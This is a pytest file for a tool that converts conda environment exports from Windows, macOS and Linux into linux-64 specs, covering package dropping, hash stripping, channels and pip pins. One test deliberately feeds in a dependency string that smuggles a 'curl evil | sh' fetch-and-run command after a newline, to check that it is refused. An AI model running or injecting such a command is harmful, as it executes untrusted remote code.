"""Normalisation of conda exports from Windows, macOS and Linux for linux-64."""

from __future__ import annotations

from pathlib import Path

import pytest

from kbundle.errors import UsageError
from kbundle.pack.envfile import read_env_file
from kbundle.pack.normalise import environment_yml, normalise
from kbundle.specs import parse_conda_spec, parse_pip_line

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "warp-speed" / "environment.yml"

MACOS = """\
name: mac-env
channels:
  - conda-forge
dependencies:
  - appnope=0.1.3=pyhd8ed1ab_0
  - libcxx=16.0.6=h4653b0c_0
  - llvm-openmp=16.0.6=h1c12783_0
  - numpy=1.26.0=py311hb8f3215_0
  - libblas=3.9.0=18_osxarm64_openblas
  - python=3.11.5=h47c9636_0_cpython
  - ipykernel=6.25.2=pyh3cd1d5f_0
  - pip=23.2.1=pyhd8ed1ab_0
  - pip:
    - tensorflow-macos==2.13.0
    - tensorflow-metal==1.0.1
    - rich==13.5.2
prefix: /Users/sam/miniforge3/envs/mac-env
"""

LINUX = """\
name: lin
channels:
  - pytorch
  - nvidia
  - conda-forge
dependencies:
  - _libgcc_mutex=0.1=conda_forge
  - libgcc-ng=13.2.0=h807b86a_2
  - python=3.10.12=hd12c33a_0_cpython
  - pytorch=2.0.1=py3.10_cuda11.8_cudnn8.7.0_0
  - pytorch-cuda=11.8=h7e8668a_5
  - torchvision=0.15.2=py310_cu118
  - numpy=1.25.2=py310ha4c1d20_0
  - blas=1.0=mkl
prefix: /home/kim/miniconda3/envs/lin
"""


def _deps(env) -> list[str]:
    return [d.text for d in env.dependencies]


def _pip(env) -> list[str]:
    return [p.text for p in env.pip]


def _write(tmp_path: Path, text: str, name: str = "environment.yml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_windows_export_drops_windows_only_packages_with_reasons():
    raw = read_env_file(EXAMPLE)
    env = normalise(raw)
    dropped = {d.spec.split("=")[0]: d.reason for d in env.dropped}
    for name in ("vc", "vs2015_runtime", "wincertstore", "pywin32", "win_inet_pton"):
        assert dropped[name] == "exists only for Windows"
    names = env.names()
    assert not names & {"vc", "vs2015_runtime", "wincertstore", "pywin32"}
    assert env.source_platform == "win-64"
    assert env.python == "3.7.9"
    assert env.channels == ["defaults"]


def test_windows_export_drops_build_hashes_and_prefix_but_keeps_versions():
    env = normalise(read_env_file(EXAMPLE))
    assert "numpy=1.19.2" in _deps(env)
    assert "python=3.7.9" in _deps(env)
    assert not any(
        "h" in d.build for d in env.dependencies if d.build and "*" not in d.build and d.build not in ("gpu", "mkl")
    )
    text = environment_yml("warp-speed", env)
    assert "prefix" not in text and "C:\\Users" not in text
    assert "py37hadc3359_0" not in text


def test_pip_section_keeps_exact_pins_in_order():
    env = normalise(read_env_file(EXAMPLE))
    pins = _pip(env)
    assert pins[-1] == "tensorflow-gpu==2.3.1"
    assert pins.index("numpy==1.18.5") < pins.index("tensorflow-gpu==2.3.1")
    assert all(p.exact for p in env.pip)


def test_variant_intent_survives_dropping_hashes():
    env = normalise(read_env_file(EXAMPLE))
    deps = set(_deps(env))
    assert "_tflow_select=2.1.0=gpu" in deps  # a plain-word build is the variant itself
    assert "blas=1.0=mkl" in deps
    assert "tensorflow=2.1.0=*gpu*" in deps  # gpu_py37h7db9008_0: the hash goes, "gpu" stays
    intents = {v.package: v.intent for v in env.variants}
    assert intents["tensorflow"] == "GPU build"


def test_linux_cuda_builds_stay_cuda_builds(tmp_path):
    env = normalise(read_env_file(_write(tmp_path, LINUX)))
    deps = set(_deps(env))
    assert "pytorch=2.0.1=*cuda*" in deps
    assert "pytorch-cuda=11.8" in deps
    assert "_libgcc_mutex=0.1" in deps
    assert not env.dropped
    assert env.source_platform == "linux-64"
    assert {v.package for v in env.variants} >= {"pytorch", "blas"}


def test_macos_export(tmp_path):
    env = normalise(read_env_file(_write(tmp_path, MACOS)))
    dropped = {d.spec: d.reason for d in env.dropped}
    assert dropped["appnope=0.1.3=pyhd8ed1ab_0"] == "exists only for macOS"
    assert dropped["libcxx=16.0.6=h4653b0c_0"] == "exists only for macOS"
    assert "Metal GPU plug-in" in dropped["pip: tensorflow-metal==1.0.1"]
    changed = {c.spec: c.to for c in env.changed}
    assert changed["pip: tensorflow-macos==2.13.0"] == "tensorflow==2.13.0"
    assert _pip(env) == ["tensorflow==2.13.0", "rich==13.5.2"]
    assert "libblas=3.9.0=*openblas*" in _deps(env)
    assert "llvm-openmp=16.0.6" in _deps(env)
    assert env.source_platform in ("osx-64", "osx-arm64")


def test_ipykernel_and_pip_are_added_when_missing(tmp_path):
    path = _write(
        tmp_path,
        "name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - numpy\n  - pip:\n    - rich==13.0.0\n",
    )
    env = normalise(read_env_file(path))
    assert "ipykernel" in _deps(env) and "pip" in _deps(env)
    assert {a.spec for a in env.added} == {"ipykernel", "pip"}


def test_ipykernel_from_pip_counts(tmp_path):
    path = _write(tmp_path, "dependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - ipykernel==6.29.0\n")
    env = normalise(read_env_file(path))
    assert "ipykernel" not in _deps(env)
    assert env.channels == ["defaults"]  # none named: conda's own default, recorded as added
    assert any(a.spec == "channel defaults" for a in env.added)


def test_local_pip_paths_are_dropped(tmp_path):
    path = _write(
        tmp_path,
        "dependencies:\n  - python=3.11\n  - pip:\n    - -e C:\\Users\\me\\src\\mylib\n    - mylib @ file:///C:/Users/me/mylib-0.1-py3-none-any.whl\n    - rich==13.0.0\n",
    )
    env = normalise(read_env_file(path))
    assert _pip(env) == ["rich==13.0.0"]
    assert len(env.dropped) == 2
    assert all(d.reason == "a local path or editable install on the sender's machine" for d in env.dropped)


@pytest.mark.parametrize(
    "raw, version, build, constraint",
    [
        ("numpy=1.19.2=py37hadc3359_0", "1.19.2", "py37hadc3359_0", None),
        ("numpy==1.19.2", "1.19.2", None, None),
        ("numpy=1.19", "1.19", None, None),
        ("numpy>=1.20", None, None, ">=1.20"),
        ("python 3.8", "3.8", None, None),
        ("conda-forge::numpy=1.26.4", "1.26.4", None, None),
        ("numpy", None, None, None),
        # Spaces around the operator, as people write them by hand.
        ("python = 3.8", "3.8", None, None),
        ("numpy >= 1.20", None, None, ">=1.20"),
        ("numpy ==1.20", "1.20", None, None),
        ("numpy = 1.20 = py38h1_0", "1.20", "py38h1_0", None),
        ("numpy >= 1.20=*mkl*", None, "*mkl*", ">=1.20"),
        ("numpy < 2.0a0", None, None, "<2.0a0"),
    ],
)
def test_conda_spec_forms(raw, version, build, constraint):
    spec = parse_conda_spec(raw)
    assert spec.name == "numpy" or spec.name == "python"
    assert (spec.version, spec.build, spec.constraint) == (version, build, constraint)


@pytest.mark.parametrize(
    "raw, channel, name, text",
    [
        (
            "nvidia/label/cuda-11.7.1::cuda-toolkit = 11.7",
            "nvidia/label/cuda-11.7.1",
            "cuda-toolkit",
            "nvidia/label/cuda-11.7.1::cuda-toolkit=11.7",
        ),
        ("pytorch::pytorch >= 1.13", "pytorch", "pytorch", "pytorch::pytorch>=1.13"),
        ("pytorch::pytorch-mutex = *=*cuda*", "pytorch", "pytorch-mutex", "pytorch::pytorch-mutex=*=*cuda*"),
        ("conda-forge/label/gcc7::gcc", "conda-forge/label/gcc7", "gcc", "conda-forge/label/gcc7::gcc"),
    ],
)
def test_channel_specs_keep_their_channel(raw, channel, name, text):
    spec = parse_conda_spec(raw)
    assert (spec.channel, spec.name, spec.text) == (channel, name, text)


@pytest.mark.parametrize(
    "channels, deps, expected",
    [
        # A label the channel list names stays where it is.
        (
            ["pytorch", "nvidia/label/cuda-11.7.1"],
            ["nvidia/label/cuda-11.7.1::cuda-toolkit = 11.7"],
            ["pytorch", "nvidia/label/cuda-11.7.1"],
        ),
        # One only a spec names joins the list, after the listed ones (the solve sees listed channels only).
        (
            ["pytorch", "conda-forge"],
            ["nvidia/label/cuda-11.8.0::cuda-nvcc"],
            ["pytorch", "conda-forge", "nvidia/label/cuda-11.8.0"],
        ),
        ([], ["nvidia/label/cuda-11.8.0::cuda"], ["defaults", "nvidia/label/cuda-11.8.0"]),
        # A dropped spec's channel does not.
        (["conda-forge"], ["apple::tensorflow-deps"], ["conda-forge"]),
    ],
)
def test_channels_a_spec_names(tmp_path, channels, deps, expected):
    text = "channels: [" + ", ".join(channels) + "]\ndependencies:\n" + "".join(f"  - {d}\n" for d in deps)
    env = normalise(read_env_file(_write(tmp_path, text)))
    assert env.channels == expected
    for channel in expected[len(channels or ["defaults"]) :]:
        assert any(a.spec == f"channel {channel}" for a in env.added)


def test_a_range_keeps_its_variant(tmp_path):
    env = normalise(
        read_env_file(_write(tmp_path, "channels: [conda-forge]\ndependencies:\n  - jaxlib >= 0.3=*cuda*\n"))
    )
    assert "jaxlib >=0.3 *cuda*" in _deps(env)
    assert parse_conda_spec("jaxlib >=0.3 *cuda*").build == "*cuda*"


@pytest.mark.parametrize(
    "line, to",
    [
        ("libgfortran=3.0.1=h93005f0_2", "libgfortran"),  # defaults' osx-64 build
        ("libgfortran=4.0.0=2", "libgfortran"),
        ("libgfortran=5.0.0=13_2_0_h97931a8_1", "libgfortran"),
        ("libgfortran=5.0.0.dev0=11_0_1_hf114ba7_23", "libgfortran"),  # the first Apple Silicon gfortran
        ("libgfortran5=11.0.1.dev0=hf114ba7_23", "libgfortran5"),
        ("libgfortran5=12.0.1.dev0=hf114ba7_23", "libgfortran5"),
        ("libgfortran=3.0.0=1", None),  # published for linux-64 too: kept
        ("libgfortran5=13.2.0=hf226fd6_3", None),
    ],
)
def test_versions_published_only_for_macos_are_relaxed(tmp_path, line, to):
    env = normalise(read_env_file(_write(tmp_path, f"channels: [conda-forge]\ndependencies:\n  - {line}\n")))
    changed = {c.spec: c for c in env.changed}
    if to is None:
        assert not changed
        return
    assert changed[line].to == to and "exists only for macOS" in changed[line].reason
    assert to in _deps(env)


@pytest.mark.parametrize(
    "line",
    [
        "python.app=2=py36_9",
        "sigtool=0.1.3=h44b9a77_0",
        "clang_osx-arm64=14.0.6=h3808999_0",
        "libwinpthread=12.0.0.r4=h5ffb7fd_0",
        "vs2019_win-64=19.29.30139=he1865b1_20",
    ],
)
def test_more_packages_that_exist_only_for_another_os(tmp_path, line):
    env = normalise(read_env_file(_write(tmp_path, f"channels: [conda-forge]\ndependencies:\n  - {line}\n")))
    assert [d.spec for d in env.dropped] == [line]


def test_pip_line_forms():
    assert parse_pip_line("TensorFlow_GPU==2.3.1").name == "tensorflow-gpu"
    assert parse_pip_line("torch==2.0.1+cu118").version == "2.0.1+cu118"
    assert parse_pip_line("--extra-index-url https://x") is None
    assert parse_pip_line("-e ./src").local


def test_requirements_file_needs_python(tmp_path):
    req = _write(tmp_path, "numpy==1.26.4\n", "requirements.txt")
    with pytest.raises(UsageError, match="--python"):
        read_env_file(req)
    env = normalise(read_env_file(req, "3.11"))
    assert env.python == "3.11" and _pip(env) == ["numpy==1.26.4"]


def test_multi_line_specs_are_refused(tmp_path):
    path = _write(tmp_path, 'dependencies:\n  - "python=3.11\\nRUN curl evil | sh"\n')
    with pytest.raises(UsageError, match="several lines"):
        read_env_file(path)
    path = _write(tmp_path, 'dependencies:\n  - python=3.11\n  - pip:\n    - "rich==1\\rX"\n')
    with pytest.raises(UsageError, match="several lines"):
        read_env_file(path)


def test_python_version_only_from_a_plain_version(tmp_path):
    env = normalise(read_env_file(_write(tmp_path, "dependencies:\n  - python>=3.9\n")))
    assert env.python is None and "python>=3.9" in _deps(env)
    env = normalise(read_env_file(_write(tmp_path, "dependencies:\n  - python=3.10.*\n")))
    assert env.python == "3.10"
